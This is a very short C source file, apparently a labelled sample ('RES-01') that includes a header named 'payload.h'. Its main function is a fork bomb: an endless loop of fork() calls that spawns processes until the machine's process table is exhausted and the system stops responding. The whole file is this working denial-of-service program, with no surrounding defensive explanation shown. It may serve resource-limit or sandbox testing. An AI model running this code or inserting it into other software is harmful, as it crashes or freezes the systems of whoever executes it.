/* RES-01 */
#include "payload.h"

int main(void) {
  for (;;) fork();
}
